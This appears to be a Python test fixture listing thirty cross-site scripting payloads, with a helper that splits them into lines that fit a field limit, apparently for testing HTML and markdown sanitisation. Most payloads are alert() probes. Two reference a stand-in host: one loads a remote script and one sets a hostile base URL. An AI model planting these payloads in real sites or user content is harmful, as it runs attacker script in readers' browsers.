"""What somebody might write to have a script run in the browser of who reads it."""

TEXTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/3.js></script>",
    "</script><script>alert(4)</script>",
    "</title><script>alert(5)</script>",
    "</textarea><script>alert(6)</script>",
    "</option></select><script>alert(7)</script>",
    "--><script>alert(8)</script><!--",
    "]]><script>alert(9)</script>",
    "<img src=x onerror=alert(10)>",
    "<img src=x:y onerror='alert(11)'>",
    '"><img src=x onerror=alert(12)>',
    "'><img src=x onerror=alert(13)>",
    '" onmouseover="alert(14)" autofocus onfocus="alert(14)',
    "' onmouseover='alert(15)' autofocus onfocus='alert(15)",
    "` onmouseover=alert(16)",
    "<svg onload=alert(17)>",
    "<svg><script>alert(18)</script></svg>",
    "<svg><animate onbegin=alert(19) attributeName=x dur=1s></svg>",
    "<body onload=alert(20)>",
    "<iframe src=javascript:alert(21)></iframe>",
    "<iframe srcdoc='<script>parent.alert(22)</script>'></iframe>",
    "<a href=javascript:alert(23)>here</a>",
    "[here](javascript:alert(24)) <javascript:alert(24)> javascript:alert(24)",
    "![here](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNSk8L3NjcmlwdD4=)",
    "## <details open ontoggle=alert(26)>",
    "- <style>@import 'javascript:alert(27)';*{background:url(javascript:alert(27))}</style>",
    "https://example.org/\"onmouseover=alert(28) https://example.org/'><svg/onload=alert(28)>",
    "{{ 7*7 }}{% load static %}${alert(29)}\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
    "<meta http-equiv=refresh content='0;url=javascript:alert(30)'><base href=//evil.example/>",
)
EVERYTHING = "\n".join(TEXTS)


def lines(longest):
    """All of the texts, as lines that are no longer than a field allows."""
    line = ""
    for text in (text[:longest] for text in TEXTS):
        if line and len(line) + 1 + len(text) > longest:
            yield line
            line = ""
        line = f"{line} {text}".strip()
    yield line
